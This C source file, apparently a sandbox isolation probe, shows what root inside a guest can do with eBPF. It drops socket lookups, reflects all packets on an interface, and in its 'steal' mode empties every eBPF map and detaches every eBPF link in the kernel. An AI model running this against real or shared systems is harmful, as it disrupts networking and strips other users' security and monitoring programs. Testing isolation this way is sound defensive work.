/*
 * What root in a guest may do with eBPF, as a static program:
 *   hostile-ebpf lookup        drops all that its own network namespace would look up a socket for
 *   hostile-ebpf xdp IFACE     sends each packet that comes back to where it came from
 *   hostile-ebpf steal         detaches every eBPF link of this kernel, and empties every map, whoever made them
 * Prints what became of it; what is attached stays for as long as it runs, which is for ever with a last argument "stay".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_link.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attr) { return (int)syscall(SYS_bpf, command, attr, sizeof *attr); }

/* return VALUE */
static int load(uint32_t type, uint32_t attach_type, int32_t value) {
  struct bpf_insn program[] = {
    {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = value},
    {.code = BPF_JMP | BPF_EXIT},
  };
  union bpf_attr attr = {.prog_type = type, .expected_attach_type = attach_type};
  attr.insns = (uintptr_t)program;
  attr.insn_cnt = 2;
  attr.license = (uintptr_t)"GPL";
  return bpf(BPF_PROG_LOAD, &attr);
}

static int attach(int program, uint32_t attach_type, uint32_t target, uint32_t flags) {
  union bpf_attr attr = {.link_create = {.prog_fd = (uint32_t)program, .attach_type = attach_type, .flags = flags}};
  attr.link_create.target_fd = target;
  return bpf(BPF_LINK_CREATE, &attr);
}

static void empty(int map) {
  for (uint32_t key = 0; key < 16; key++) {
    union bpf_attr attr = {.map_fd = (uint32_t)map};
    attr.key = (uintptr_t)&key;
    bpf(BPF_MAP_DELETE_ELEM, &attr);
  }
}

/* Calls for each object of a kind that there is in the kernel. */
static int each(int next, int get, void (*use)(int fd)) {
  int count = 0;
  for (uint32_t id = 0;;) {
    union bpf_attr attr = {.start_id = id};
    if (bpf(next, &attr) < 0) return count;
    id = attr.next_id;
    attr = (union bpf_attr){.map_id = id};
    int fd = bpf(get, &attr);
    if (fd < 0) continue;
    use(fd);
    close(fd);
    count++;
  }
}

static void detach(int link) {
  union bpf_attr attr = {.link_detach = {.link_fd = (uint32_t)link}};
  bpf(BPF_LINK_DETACH, &attr);
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (strcmp(what, "lookup") == 0) {
    int namespace = open("/proc/self/ns/net", O_RDONLY);
    int link = attach(load(BPF_PROG_TYPE_SK_LOOKUP, BPF_SK_LOOKUP, SK_DROP), BPF_SK_LOOKUP, (uint32_t)namespace, 0);
    printf("%s\n", link < 0 ? strerror(errno) : "attached");
  } else if (strcmp(what, "xdp") == 0 && argc > 2) {
    int link = attach(load(BPF_PROG_TYPE_XDP, BPF_XDP, XDP_TX), BPF_XDP, if_nametoindex(argv[2]), XDP_FLAGS_SKB_MODE);
    printf("%s\n", link < 0 ? strerror(errno) : "attached");
  } else if (strcmp(what, "steal") == 0) {
    int maps = each(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, empty);
    int links = each(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, detach);
    printf("%d maps, %d links\n", maps, links);
  }
  fflush(stdout);
  if (strcmp(argv[argc - 1], "stay") == 0) pause();
  return 0;
}
